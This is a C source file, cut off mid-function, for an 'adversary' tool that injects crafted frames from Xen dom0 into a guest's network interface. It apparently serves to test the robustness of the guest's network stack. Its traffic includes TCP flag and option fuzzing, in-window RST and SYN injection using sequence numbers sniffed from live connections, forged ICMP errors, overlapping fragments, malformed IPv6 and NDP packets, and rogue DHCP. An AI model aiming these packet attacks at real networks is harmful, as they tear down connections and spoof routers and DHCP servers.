/* adversary: a valid-checksum attacker on a guest's LAN (dom0, an AF_PACKET socket on the guest's
 * vif). Every frame it sends carries correct IPv4 header, TCP, UDP, ICMP and ICMPv6 checksums, so
 * it reaches the guest's protocol code instead of dying at a checksum check (which is where
 * nearly all of rawstorm's frames end).
 *
 * adversary -i IFACE -m GUEST_MAC -a GUEST_IP -b BRIDGE -c CLASS [-n COUNT] [-S SEED] [-r RATE]
 *           [-p PORT,...] [-k SERVER_PORT:CLIENT_PORT]...
 *
 *   -i   the guest's vif in dom0 (vifDOMID.0); frames are sent out of it to the guest, and the
 *        live connection is sniffed on it (both directions pass there)
 *   -m   the guest's MAC; -a its IPv4 address
 *   -b   dom0's bridge (its MAC and IPv4 address are the attacker's source: the attacker spoofs
 *        dom0, so the guest's answers go to dom0's Linux stack, which resets stray SYN-ACKs)
 *   -c   tcpflags | established | rst-exact | icmp | frag | ipv6 | dhcp   (see the classes below)
 *   -n   frames to send (default 100000); -S seed (deterministic: same seed, same frames)
 *   -r   at most RATE frames per second (0 = as fast as the socket takes them; the default)
 *   -p   the guest's TCP ports to aim at (default 80,7)
 *   -k   a live connection between dom0 port CLIENT_PORT and the guest's SERVER_PORT: its
 *        sequence numbers are learnt by sniffing the vif (the on-path attacker, the strongest
 *        model) for established, rst-exact and icmp to aim at; the other classes keep their
 *        random source ports off it; repeatable
 *
 * Classes:
 *   tcpflags     TCP to the ports with each of the 512 flag combinations in turn (the 8 flag bits
 *                and NS), random sequence numbers and hostile options (MSS 0, window scale 255,
 *                SACK blocks pointing anywhere, zero-length, length-1 and over-long options, EOL
 *                followed by junk, data offsets below 5 and past the segment), some with data
 *   established  on each -k connection: RSTs and RST|ACKs with a sequence number inside the
 *                guest's receive window but never equal to RCV.NXT, SYNs and SYN|ACKs inside the
 *                window, data 16 MiB or more past RCV.NXT, ACKs of data never sent (RFC 5961's
 *                blind attacks, each a sixth of the frames)
 *   rst-exact    one RST with seq == RCV.NXT on each -k connection (a reset the guest must
 *                honour: RFC 5961 3.2)
 *   icmp         ICMP errors quoting the -k connections and random flows of ours: frag-needed
 *                with MTU 68 (and 0, 1, 576, 65535), port/host/protocol unreachable, time
 *                exceeded, parameter problem, source quench, redirects; truncated quotes
 *   frag         IPv4 fragments: overlapping pieces of UDP datagrams to port 7, first pieces that
 *                never complete, last pieces alone, tiny and 8-byte fragments, offsets that reach
 *                past 65535 bytes, DF with MF
 *   ipv6         IPv6 to the guest's link-local and all-nodes addresses: extension-header chains
 *                (hop-by-hop, destination options, routing types 0/2/3/4, fragment headers, up to
 *                40 headers deep) with Pad1/PadN/unknown options of every action, router alert,
 *                jumbo payload, ending in TCP/UDP/ICMPv6; NDP (NS, NA, RS, RA, redirect) with
 *                zero-length options, length-255 options and prefix/MTU/RDNSS options that lie
 *   dhcp         rogue DHCP OFFER, ACK and NAK from a rogue server to the guest's MAC (unicast and
 *                broadcast): random and zero transaction ids, lease time 0 and 0xffffffff,
 *                zero-length, over-long and truncated options, overload (52), no message type,
 *                bogus subnet masks, routers and DNS servers, yiaddr 0.0.0.0 / broadcast / ours
 *
 * Prints "adversary: CLASS sent N frames in T s (R frames/s)" and, for classes that use -k,
 * "adversary: conn S:C seq=... ack=... win=..." for what it learnt. Exit 1 on setup errors. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static uint64_t s = 88172645463325252ull;
static uint32_t rnd(void) { s ^= s << 13; s ^= s >> 7; s ^= s << 17; return (uint32_t)(s >> 16); }
static uint32_t rndn(uint32_t n) { return n ? rnd() % n : 0; }

static int fd;
static struct sockaddr_ll to;
static uint8_t gmac[6], mymac[6];
static uint32_t gip, myip; /* network byte order */
static long sent, retries;

struct conn {
    uint16_t sport, cport;  /* guest (server) port, dom0 (client) port */
    uint32_t snd_nxt;       /* the guest's next sequence number */
    uint32_t rcv_nxt;       /* what the guest expects from the client next (its ACK number) */
    uint32_t win;           /* the guest's advertised window, unscaled (a lower bound) */
    int known;
};
static struct conn conns[8];
static int nconns;

/* ---- checksums ---- */
static uint32_t sum16(const void *d, size_t n, uint32_t acc) {
    const uint8_t *p = d;
    while (n > 1) { acc += (uint32_t)p[0] << 8 | p[1]; p += 2; n -= 2; }
    if (n) acc += (uint32_t)p[0] << 8;
    return acc;
}
static uint16_t fold(uint32_t acc) {
    while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
    return (uint16_t)~acc;
}
static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = (uint8_t)v; }
static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3]; }

/* L4 checksum over an IPv4 pseudo-header; csum_off is the checksum field's offset in l4. */
static void l4sum4(uint8_t *l4, size_t len, uint8_t proto, uint32_t src, uint32_t dst, size_t csum_off) {
    uint8_t ph[12];
    memcpy(ph, &src, 4); memcpy(ph + 4, &dst, 4); ph[8] = 0; ph[9] = proto; put16(ph + 10, (uint16_t)len);
    put16(l4 + csum_off, 0);
    uint16_t c = fold(sum16(l4, len, sum16(ph, 12, 0)));
    if (proto == 17 && c == 0) c = 0xffff;
    put16(l4 + csum_off, c);
}
static void l4sum6(uint8_t *l4, size_t len, uint8_t proto, const uint8_t *src, const uint8_t *dst, size_t csum_off) {
    uint8_t ph[40];
    memcpy(ph, src, 16); memcpy(ph + 16, dst, 16); put32(ph + 32, (uint32_t)len); ph[36] = ph[37] = ph[38] = 0; ph[39] = proto;
    put16(l4 + csum_off, 0);
    uint16_t c = fold(sum16(l4, len, sum16(ph, 40, 0)));
    if (proto == 17 && c == 0) c = 0xffff;
    put16(l4 + csum_off, c);
}

/* ---- frame building ---- */
static size_t eth(uint8_t *f, const uint8_t *dst, uint16_t type) {
    memcpy(f, dst, 6); memcpy(f + 6, mymac, 6); put16(f + 12, type); return 14;
}
/* IPv4 header (no options) with a correct checksum; frag = flags<<13 | offset/8. */
static size_t ip4(uint8_t *p, uint32_t src, uint32_t dst, uint8_t proto, size_t plen, uint16_t id, uint16_t frag) {
    p[0] = 0x45; p[1] = 0; put16(p + 2, (uint16_t)(20 + plen)); put16(p + 4, id); put16(p + 6, frag);
    p[8] = 64; p[9] = proto; put16(p + 10, 0); memcpy(p + 12, &src, 4); memcpy(p + 16, &dst, 4);
    put16(p + 10, fold(sum16(p, 20, 0)));
    return 20;
}

static struct timespec t0;
static double elapsed(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9;
}
static long rate;

/* Frames go out in batches of up to BATCH with one sendmmsg (a system call is costly in a PV
 * dom0 under emulation); flush() sends what is queued. */
#define BATCH 64
static uint8_t qbuf[BATCH][1600];
static struct iovec qiov[BATCH];
static struct mmsghdr qmsg[BATCH];
static int queued;

static void flush(void) {
    int done = 0;
    for (int tries = 0; done < queued; tries++) {
        int r = sendmmsg(fd, qmsg + done, (unsigned)(queued - done), 0);
        if (r > 0) { done += r; sent += r; tries = 0; continue; }
        if (r < 0 && errno != ENOBUFS && errno != EAGAIN) { perror("adversary: sendmmsg"); exit(1); }
        if (tries > 100000) { fprintf(stderr, "adversary: the vif takes no frames\n"); exit(1); }
        retries++;
        usleep(200);
    }
    queued = 0;
}

static void send_frame(const uint8_t *f, size_t len) {
    if (len < 60) len = 60; /* Ethernet padding (zero bytes after the IP datagram) */
    if (len > sizeof qbuf[0]) len = sizeof qbuf[0];
    if (rate > 0) {
        double due = (double)(sent + queued) / (double)rate;
        double now = elapsed();
        if (due > now + 0.0005) {
            flush();
            struct timespec ts = {0, (long)((due - now) * 1e9)};
            nanosleep(&ts, NULL);
        }
    }
    memcpy(qbuf[queued], f, len);
    qiov[queued].iov_base = qbuf[queued];
    qiov[queued].iov_len = len;
    memset(&qmsg[queued], 0, sizeof qmsg[queued]);
    qmsg[queued].msg_hdr.msg_name = &to;
    qmsg[queued].msg_hdr.msg_namelen = sizeof to;
    qmsg[queued].msg_hdr.msg_iov = &qiov[queued];
    qmsg[queued].msg_hdr.msg_iovlen = 1;
    if (++queued == BATCH) flush();
}

/* A TCP segment (IPv4) from src:sport to the guest. flags: 9 bits (NS is bit 8). doff_words
 * is the data offset written into the header (normally 5 + optlen/4; may lie). */
static void send_tcp4(uint32_t src, uint16_t sport, uint16_t dport, uint32_t seq, uint32_t ack,
                      uint16_t flags, uint16_t win, const uint8_t *opt, size_t optlen, int doff_words,
                      const uint8_t *data, size_t dlen) {
    static uint8_t f[1600];
    memset(f, 0, 64);
    size_t o = eth(f, gmac, 0x0800);
    size_t tlen = 20 + optlen + dlen;
    o += ip4(f + o, src, gip, 6, tlen, (uint16_t)rnd(), 0x4000);
    uint8_t *t = f + o;
    put16(t, sport); put16(t + 2, dport); put32(t + 4, seq); put32(t + 8, ack);
    t[12] = (uint8_t)(doff_words << 4) | ((flags >> 8) & 1); t[13] = (uint8_t)flags;
    put16(t + 14, win); put16(t + 18, (uint16_t)rnd());
    if (optlen) memcpy(t + 20, opt, optlen);
    if (dlen) memcpy(t + 20 + optlen, data, dlen);
    l4sum4(t, tlen, 6, src, gip, 16);
    send_frame(f, o + tlen);
}

/* Hostile TCP options filling an area of `area` bytes (a multiple of 4, at most 40). */
static size_t hostile_options(uint8_t *o, size_t area) {
    size_t n = 0;
    while (n < area) {
        size_t room = area - n;
        uint8_t b[44]; size_t k = 0;
        switch (rnd() % 16) {
        case 0: b[k++] = 2; b[k++] = 4; b[k++] = 0; b[k++] = 0; break;               /* MSS 0 */
        case 1: b[k++] = 2; b[k++] = 4; b[k++] = rnd(); b[k++] = rnd(); break;        /* MSS random */
        case 2: b[k++] = 3; b[k++] = 3; b[k++] = 255; break;                          /* WS 255 */
        case 3: b[k++] = 3; b[k++] = 3; b[k++] = 14 + rnd() % 3; break;              /* WS 14..16 */
        case 4: b[k++] = 4; b[k++] = 2; break;                                        /* SACK permitted */
        case 5: { int blocks = 1 + rnd() % 4; b[k++] = 5; b[k++] = 2 + 8 * blocks;   /* SACK anywhere */
                  for (int i = 0; i < 8 * blocks; i++) b[k++] = rnd();
                  break; }
        case 6: b[k++] = 5; b[k++] = 2 + rnd() % 9; break;                           /* SACK bad length */
        case 7: b[k++] = 8; b[k++] = 10; for (int i = 0; i < 8; i++) b[k++] = rnd(); break; /* timestamps */
        case 8: b[k++] = (uint8_t[]){2, 3, 4, 5, 8, 30, 34, 253, 254}[rnd() % 9]; b[k++] = 0; break; /* zero length */
        case 9: b[k++] = (uint8_t[]){2, 3, 4, 5, 8, 19, 29}[rnd() % 7]; b[k++] = 1; break;  /* length 1 */
        case 10: b[k++] = (uint8_t[]){2, 3, 4, 5, 8, 99}[rnd() % 6]; b[k++] = (uint8_t)(room + 1 + rnd() % 250); break; /* over-long */
        case 11: b[k++] = 1; break;                                                   /* NOP */
        case 12: b[k++] = 0; while (k < room) b[k++] = rnd(); break;                 /* EOL, then junk */
        case 13: b[k++] = 2 + rnd() % 254; b[k] = 2 + rnd() % 8; { int l = b[k++]; for (int i = 2; i < l; i++) b[k++] = rnd(); } break;
        case 14: b[k++] = 2; b[k++] = 3 + 2 * (rnd() % 2); b[k++] = rnd(); if (b[1] == 5) { b[k++] = rnd(); b[k++] = rnd(); } break; /* MSS bad length */
        default: b[k++] = 3; b[k++] = 2 + 2 * (rnd() % 2); if (b[1] == 4) { b[k++] = 255; b[k++] = 255; } break; /* WS bad length */
        }
        if (k > room) k = room;
        memcpy(o + n, b, k); n += k;
    }
    return n;
}

static int ports[16] = {80, 7}, nports = 2;

static int is_live_client_port(uint16_t p) {
    for (int i = 0; i < nconns; i++) if (conns[i].cport == p) return 1;
    return 0;
}
static uint16_t attacker_port(void) {
    uint16_t p;
    do p = (uint16_t)(1024 + rnd() % 60000); while (is_live_client_port(p));
    return p;
}

static void class_tcpflags(long count) {
    uint8_t opt[40], data[64];
    for (long n = 0; n < count; n++) {
        uint16_t flags = (uint16_t)(n % 512);
        size_t area = 4 * (rnd() % 11);
        size_t ol = hostile_options(opt, area);
        int doff = 5 + (int)ol / 4;
        uint32_t r = rnd() % 32;
        if (r == 0) doff = rnd() % 5;         /* data offset below the minimum */
        else if (r == 1) doff = 15;           /* data offset past the segment (or the options) */
        size_t dl = rnd() % 4 ? 0 : rnd() % sizeof data;
        for (size_t i = 0; i < dl; i++) data[i] = rnd();
        uint16_t dport = rnd() % 8 ? (uint16_t)ports[rnd() % nports] : (uint16_t)rnd();
        send_tcp4(myip, attacker_port(), dport, rnd(), rnd(), flags, (uint16_t)rnd(), opt, ol, doff, data, dl);
    }
}

/* ---- sniffing the live connections ---- */
static int sniff_fd = -1;
static void sniff_open(const char *ifname) {
    sniff_fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (sniff_fd < 0) { perror("adversary: sniff socket"); exit(1); }
    struct sockaddr_ll a = {0};
    a.sll_family = AF_PACKET; a.sll_protocol = htons(ETH_P_ALL); a.sll_ifindex = (int)if_nametoindex(ifname);
    if (bind(sniff_fd, (struct sockaddr *)&a, sizeof a) < 0) { perror("adversary: bind"); exit(1); }
}
/* Learns each connection's numbers from the guest's own segments on it (seq = its SND.NXT after
 * the segment, ack = its RCV.NXT). To make the guest speak it sends, once a second for up to
 * 10 s, ACKs the guest answers with a challenge ACK carrying both numbers. */
static void learn(void) {
    for (int i = 0; i < nconns; i++) conns[i].known = 0;
    double start = elapsed(), poked = -10;
    for (;;) {
        int all = 1;
        for (int i = 0; i < nconns; i++) all &= conns[i].known;
        if (all) break;
        if (elapsed() - start > 10) {
            for (int i = 0; i < nconns; i++)
                if (!conns[i].known) fprintf(stderr, "adversary: nothing seen on connection %u:%u\n", conns[i].sport, conns[i].cport);
            exit(1);
        }
        if (elapsed() - poked > 1.1) {
            poked = elapsed();
            /* Two ACKs half the sequence space apart: one of them acknowledges data never sent
             * (answered with a challenge ACK), the other is an old duplicate (ignored). */
            for (int i = 0; i < nconns; i++)
                if (!conns[i].known) {
                    uint32_t a = rnd(), q = rnd();
                    send_tcp4(myip, conns[i].cport, conns[i].sport, q, a, 0x10, 1024, NULL, 0, 5, NULL, 0);
                    send_tcp4(myip, conns[i].cport, conns[i].sport, q, a + 0x80000000u, 0x10, 1024, NULL, 0, 5, NULL, 0);
                }
            flush();
        }
        struct pollfd p = {sniff_fd, POLLIN, 0};
        if (poll(&p, 1, 100) <= 0) continue;
        uint8_t b[2048];
        ssize_t l = recv(sniff_fd, b, sizeof b, 0);
        if (l < 14 + 20 + 20 || get16(b + 12) != 0x0800) continue;
        uint8_t *ip = b + 14;
        if (ip[9] != 6 || memcmp(ip + 12, &gip, 4) != 0) continue;
        size_t ihl = (size_t)(ip[0] & 15) * 4, tot = get16(ip + 2);
        uint8_t *t = ip + ihl;
        if ((size_t)l < 14 + ihl + 20) continue;
        size_t thl = (size_t)(t[12] >> 4) * 4;
        uint16_t sp = get16(t), dp = get16(t + 2);
        for (int i = 0; i < nconns; i++) {
            if (conns[i].sport != sp || conns[i].cport != dp || !(t[13] & 0x10)) continue;
            size_t dl = tot > ihl + thl ? tot - ihl - thl : 0;
            conns[i].snd_nxt = get32(t + 4) + (uint32_t)dl + ((t[13] & 3) ? 1 : 0);
            conns[i].rcv_nxt = get32(t + 8);
            conns[i].win = get16(t + 14);
            conns[i].known = 1;
        }
    }
    for (int i = 0; i < nconns; i++)
        printf("adversary: conn %u:%u seq=%u ack=%u win=%u\n", conns[i].sport, conns[i].cport,
               conns[i].snd_nxt, conns[i].rcv_nxt, conns[i].win);
}

static void class_established(long count) {
    uint8_t data[256];
    for (long n = 0; n < count; n++) {
        struct conn *c = &conns[n % nconns];
        uint32_t w = c->win > 1 ? c->win : 2;
        uint32_t inwin = c->rcv_nxt + 1 + rndn(w - 1); /* inside the window, never RCV.NXT */
        size_t dl = 0;
        uint32_t seq, ack = c->snd_nxt;
        uint16_t flags;
        switch ((n / nconns) % 6) {
        case 0: seq = inwin; flags = 0x04; ack = 0; break;                 /* RST */
        case 1: seq = inwin; flags = 0x14; break;                          /* RST|ACK */
        case 2: seq = inwin; flags = 0x02; ack = 0; break;                 /* SYN */
        case 3: seq = inwin; flags = 0x12; break;                          /* SYN|ACK */
        case 4: seq = c->rcv_nxt + (1u << 24) + rndn(1u << 30); flags = 0x18; /* beyond any window of ours */
                dl = 1 + rndn(sizeof data); break;
        default: seq = c->rcv_nxt; flags = 0x10;                           /* ACK of data never sent */
                ack = c->snd_nxt + 1 + rndn(1u << 30); break;
        }
        for (size_t i = 0; i < dl; i++) data[i] = rnd();
        send_tcp4(myip, c->cport, c->sport, seq, ack, flags, (uint16_t)rnd(), NULL, 0, 5, data, dl);
    }
}

static void class_rst_exact(void) {
    for (int i = 0; i < nconns; i++)
        send_tcp4(myip, conns[i].cport, conns[i].sport, conns[i].rcv_nxt, 0, 0x04, 0, NULL, 0, 5, NULL, 0);
}

/* ---- ICMP errors ---- */
static void class_icmp(long count) {
    static uint8_t f[1600];
    for (long n = 0; n < count; n++) {
        memset(f, 0, 128);
        size_t o = eth(f, gmac, 0x0800);
        uint8_t *ip = f + o, *ic = ip + 20;
        /* The quoted datagram: one of our connections (guest -> dom0), or a random flow of the
         * guest's (TCP or UDP, any ports), as the guest would have sent it. */
        uint8_t q[68];
        memset(q, 0, sizeof q);
        int udp = 0;
        uint16_t qs, qd; uint32_t qseq = rnd();
        if (nconns && rnd() % 2) {
            struct conn *c = &conns[rnd() % nconns];
            qs = c->sport; qd = c->cport; qseq = c->snd_nxt - rndn(2);
        } else {
            udp = rnd() % 2; qs = (uint16_t)rnd(); qd = (uint16_t)rnd();
        }
        uint32_t qdst = rnd() % 4 ? myip : rnd();
        q[0] = 0x45; put16(q + 2, (uint16_t)(40 + rndn(1460))); put16(q + 4, (uint16_t)rnd()); put16(q + 6, 0x4000);
        q[8] = 64; q[9] = udp ? 17 : 6; memcpy(q + 12, &gip, 4); memcpy(q + 16, &qdst, 4);
        put16(q + 10, fold(sum16(q, 20, 0)));
        put16(q + 20, qs); put16(q + 22, qd);
        if (udp) put16(q + 24, 8 + rndn(1000)); else { put32(q + 24, qseq); put32(q + 28, rnd()); q[32] = 0x50; q[33] = 0x18; }
        size_t qlen = (size_t[]){28, 48, 20, 8, 0, 68}[rnd() % 6];   /* RFC 792 quote, more, truncated */
        uint8_t type, code; uint32_t rest = 0;
        switch (n % 8) {
        case 0: case 1: type = 3; code = 4;                             /* frag needed, MTU 68 mostly */
            rest = (uint32_t[]){68, 68, 68, 0, 1, 576, 65535, 67}[rnd() % 8]; break;
        case 2: type = 3; code = 3; break;                               /* port unreachable */
        case 3: type = 3; code = rnd() % 16; break;                      /* other unreachables */
        case 4: type = 11; code = rnd() % 2; break;                      /* time exceeded */
        case 5: type = 12; code = rnd() % 3; rest = rnd() << 24; break;  /* parameter problem */
        case 6: type = 4; code = 0; break;                               /* source quench */
        default: type = 5; code = rnd() % 4; rest = rnd(); break;        /* redirect */
        }
        ic[0] = type; ic[1] = code; put32(ic + 4, rest);
        memcpy(ic + 8, q, qlen);
        size_t ilen = 8 + qlen;
        put16(ic + 2, 0); put16(ic + 2, fold(sum16(ic, ilen, 0)));
        uint32_t src = rnd() % 2 ? myip : (htonl(0x0a000000u | (rnd() & 0xffffff)));
        o += ip4(ip, src, gip, 1, ilen, (uint16_t)rnd(), 0);
        send_frame(f, o + ilen);
    }
}

/* ---- IPv4 fragments ---- */
static void class_frag(long count) {
    static uint8_t f[1600];
    static uint8_t dgram[65536 + 64];
    long n = 0;
    while (n < count) {
        /* One UDP datagram to the guest's echo port 7 (valid UDP checksum over the whole thing),
         * cut into pieces that overlap, leave holes, or never end. */
        size_t ulen = 8 + rndn(3000);
        uint16_t id = (uint16_t)rnd();
        put16(dgram, attacker_port()); put16(dgram + 2, 7); put16(dgram + 4, (uint16_t)ulen);
        for (size_t i = 8; i < ulen; i++) dgram[i] = rnd();
        l4sum4(dgram, ulen, 17, myip, gip, 6);
        int mode = rnd() % 6;
        int pieces = 1 + rnd() % 6;
        for (int k = 0; k < pieces && n < count; k++, n++) {
            size_t off, len; int mf = 1, df = 0;
            switch (mode) {
            case 0: off = 8 * rndn((uint32_t)(ulen / 8 + 1)); len = 8 + 8 * rndn(64); break; /* overlap anywhere */
            case 1: off = 0; len = 8 * (1 + rndn((uint32_t)(ulen / 8 + 1))); break;            /* first piece only */
            case 2: off = 8 * (1 + rndn(200)); len = ulen > 8 ? ulen - 8 : 8; mf = 0; break;   /* a last piece alone */
            case 3: off = 8 * rndn(8); len = 8; break;                                           /* tiny */
            case 4: off = 65528 - 8 * rndn(4); len = 8 + 8 * rndn(100); mf = rnd() % 2; break; /* past 65535 */
            default: off = 0; len = 8 + 8 * rndn(20); df = 1; break;                            /* DF with MF */
            }
            if (off + len > sizeof dgram) len = sizeof dgram - off;
            if (len > 1480) len = 1480;
            memset(f, 0, 64);
            size_t o = eth(f, gmac, 0x0800);
            /* Bytes beyond the datagram are zeros from dgram's tail area (stale but harmless). */
            memcpy(f + o + 20, dgram + off, len);
            o += ip4(f + o, myip, gip, 17, len, id, (uint16_t)((df ? 0x4000 : 0) | (mf ? 0x2000 : 0) | ((off / 8) & 0x1fff)));
            send_frame(f, o + len);
        }
    }
}

/* ---- IPv6 ---- */
static void ll_of(uint8_t *a, const uint8_t *mac) {
    memset(a, 0, 16); a[0] = 0xfe; a[1] = 0x80;
    a[8] = mac[0] ^ 2; a[9] = mac[1]; a[10] = mac[2]; a[11] = 0xff; a[12] = 0xfe; a[13] = mac[3]; a[14] = mac[4]; a[15] = mac[5];
}

/* Options inside a hop-by-hop or destination-options header: `len` bytes. */
static void ext_options(uint8_t *o, size_t len) {
    size_t n = 0;
    while (n < len) {
        size_t room = len - n;
        switch (rnd() % 8) {
        case 0: o[n++] = 0; break;                                     /* Pad1 */
        case 1: if (room >= 2) { size_t l = rndn((uint32_t)(room - 1)); o[n++] = 1; o[n++] = (uint8_t)l; memset(o + n, 0, l); n += l; } else o[n++] = 0; break; /* PadN */
        case 2: if (room >= 4) { o[n++] = 5; o[n++] = 2; o[n++] = 0; o[n++] = rnd() % 2; } else o[n++] = 0; break; /* router alert */
        case 3: if (room >= 6) { o[n++] = 0xc2; o[n++] = 4; put32(o + n, rnd()); n += 4; } else o[n++] = 0; break; /* jumbo */
        case 4: o[n++] = (uint8_t)((rnd() % 4) << 6 | (rnd() & 0x1f)); if (n < len) { size_t l = rndn((uint32_t)(len - n)); o[n++] = (uint8_t)l; n += l; } break; /* unknown, every action */
        case 5: o[n++] = 1; if (n < len) o[n++] = 255; break;          /* PadN over-long */
        case 6: o[n++] = (uint8_t)rnd(); if (n < len) o[n++] = 0; break;/* zero-length option */
        default: while (n < len) o[n++] = (uint8_t)rnd(); break;       /* junk */
        }
    }
}

static void send_ipv6(const uint8_t *src, const uint8_t *dst, const uint8_t *dmac, uint8_t nh, const uint8_t *pl, size_t plen, uint8_t hops) {
    static uint8_t f[1600];
    size_t o = eth(f, dmac, 0x86dd);
    uint8_t *ip = f + o;
    ip[0] = 0x60; ip[1] = ip[2] = ip[3] = 0; put16(ip + 4, (uint16_t)plen); ip[6] = nh; ip[7] = hops;
    memcpy(ip + 8, src, 16); memcpy(ip + 24, dst, 16);
    memcpy(ip + 40, pl, plen);
    send_frame(f, o + 40 + plen);
}

static void class_ipv6(long count) {
    uint8_t me6[16], g6[16], allnodes[16] = {0xff, 2, [15] = 1}, snm[16] = {0xff, 2, [11] = 1, [12] = 0xff};
    uint8_t allmac[6] = {0x33, 0x33, 0, 0, 0, 1}, snmmac[6] = {0x33, 0x33, 0xff};
    ll_of(me6, mymac); ll_of(g6, gmac);
    memcpy(snm + 13, g6 + 13, 3); memcpy(snmmac + 3, g6 + 13, 3);
    static uint8_t pl[1500];
    for (long n = 0; n < count; n++) {
        const uint8_t *dst = g6, *dmac = gmac;
        uint32_t d = rnd() % 8;
        if (d == 0) { dst = allnodes; dmac = allmac; } else if (d == 1) { dst = snm; dmac = snmmac; }
        size_t o = 0;
        uint8_t first;
        uint8_t *prev_nh = &first;
        if (n % 2 == 0) {
            /* An extension-header chain, then TCP/UDP/ICMPv6 (or nothing). */
            int depth = rnd() % 4 == 0 ? 1 + rnd() % 40 : 1 + rnd() % 4;
            for (int k = 0; k < depth && o < 1200; k++) {
                uint8_t kind = (uint8_t[]){0, 60, 43, 44, 60, 0}[rnd() % 6];
                if (k > 0 && kind == 0 && rnd() % 2) kind = 60; /* hop-by-hop not first: mostly dest opts */
                *prev_nh = kind;
                uint8_t *h = pl + o;
                prev_nh = h;
                if (kind == 44) { /* fragment header: atomic, first, middle, last, overlapping */
                    h[1] = 0; put16(h + 2, (uint16_t)((rnd() % 4 ? 0 : (rnd() & 0x1fff) << 3) | (rnd() % 2)));
                    put32(h + 4, rnd()); o += 8;
                } else if (kind == 43) { /* routing: types 0, 2, 3, 4, random; segments left 0 or not */
                    size_t units = rnd() % 5;
                    h[1] = (uint8_t)(units * 2); h[2] = (uint8_t[]){0, 2, 3, 4, 253}[rnd() % 5];
                    h[3] = rnd() % 3 ? 0 : (uint8_t)(rnd() % 8);
                    for (size_t i = 4; i < 8 + units * 16; i++) h[i] = rnd();
                    o += 8 + units * 16;
                } else {
                    size_t units = rnd() % 3;
                    h[1] = (uint8_t)units;
                    ext_options(h + 2, 6 + 8 * units);
                    o += 8 + 8 * units;
                }
            }
            uint8_t last = (uint8_t[]){6, 17, 58, 59, 6, 58}[rnd() % 6];
            *prev_nh = last;
            uint8_t *l4 = pl + o;
            size_t l4len = 0;
            if (last == 6) {
                memset(l4, 0, 20); put16(l4, attacker_port()); put16(l4 + 2, (uint16_t)ports[rnd() % nports]);
                put32(l4 + 4, rnd()); put32(l4 + 8, rnd()); l4[12] = 0x50; l4[13] = (uint8_t)rnd(); put16(l4 + 14, 4096);
                l4len = 20; l4sum6(l4, l4len, 6, me6, dst, 16);
            } else if (last == 17) {
                l4len = 8 + rndn(64); put16(l4, attacker_port()); put16(l4 + 2, 7); put16(l4 + 4, (uint16_t)l4len);
                for (size_t i = 8; i < l4len; i++) l4[i] = rnd();
                l4sum6(l4, l4len, 17, me6, dst, 6);
            } else if (last == 58) {
                l4len = 8 + rndn(56); l4[0] = 128; l4[1] = 0; put32(l4 + 4, rnd());
                for (size_t i = 8; i < l4len; i++) l4[i] = rnd();
                l4sum6(l4, l4len, 58, me6, dst, 2);
            }
            o += l4len;
            send_ipv6(me6, dst, dmac, first, pl, o, 64);
        } else {
            /* NDP, hop limit 255 (as NDP requires) and sometimes not; hostile options. */
            uint8_t *ic = pl;
            memset(ic, 0, 64);
            size_t hl;
            switch (rnd() % 5) {
            case 0: ic[0] = 135; memcpy(ic + 8, g6, 16); hl = 24; break;            /* NS for the guest */
            case 1: ic[0] = 136; ic[4] = (uint8_t)(rnd() & 0xe0); memcpy(ic + 8, rnd() % 2 ? me6 : g6, 16); hl = 24; break; /* NA */
            case 2: ic[0] = 133; hl = 8; break;                                      /* RS */
            case 3: ic[0] = 134; ic[4] = 64; ic[5] = (uint8_t)rnd(); put16(ic + 6, (uint16_t)rnd()); put32(ic + 8, rnd()); put32(ic + 12, rnd()); hl = 16; break; /* RA */
            default: ic[0] = 137; memcpy(ic + 8, me6, 16); memcpy(ic + 24, rnd() % 2 ? g6 : me6, 16); hl = 40; break; /* redirect */
            }
            size_t ol = 0, want = 8 * (rnd() % 12);
            while (ol < want) {
                uint8_t *op = ic + hl + ol;
                uint8_t kind = (uint8_t[]){1, 2, 3, 4, 5, 25, 31, 99}[rnd() % 8];
                uint32_t z = rnd() % 4;
                size_t units;
                if (z == 0) units = 0;                                   /* zero-length option */
                else if (z == 1) units = 255;                            /* longer than the packet */
                else units = kind == 3 ? 4 : kind == 5 ? 1 : kind == 25 ? 3 : 1 + rnd() % 3;
                if (rnd() % 8 == 0) units = 1 + rnd() % 5;               /* the wrong length for the kind */
                op[0] = kind; op[1] = (uint8_t)units;
                if (kind == 1 || kind == 2) memcpy(op + 2, rnd() % 2 ? mymac : gmac, 6);
                else for (int i = 2; i < 8; i++) op[i] = rnd();
                if (kind == 3) {                                         /* prefix information */
                    op[2] = (uint8_t)rnd(); op[3] = (uint8_t)rnd(); put32(op + 4, rnd());
                    for (int i = 8; i < 32; i++) op[i] = rnd();
                    ol += 32;
                } else if (kind == 25) {                                 /* RDNSS */
                    for (int i = 8; i < 24; i++) op[i] = rnd();
                    ol += 24;
                } else ol += 8;
            }
            size_t len = hl + ol;
            const uint8_t *src = rnd() % 8 ? me6 : (const uint8_t[16]){0};
            l4sum6(ic, len, 58, src, dst, 2);
            send_ipv6(src, dst, dmac, 58, ic, len, rnd() % 8 ? 255 : 64);
        }
    }
}

/* ---- rogue DHCP ---- */
static void class_dhcp(long count) {
    static uint8_t f[1600];
    uint8_t bcast[6] = {255, 255, 255, 255, 255, 255};
    uint32_t rogue = htonl(0x0a000042); /* 10.0.0.66: no server there */
    for (long n = 0; n < count; n++) {
        memset(f, 0, 600);
        int unicast = rnd() % 2;
        size_t o = eth(f, unicast ? gmac : bcast, 0x0800);
        uint8_t *ip = f + o, *u = ip + 20, *b = u + 8;
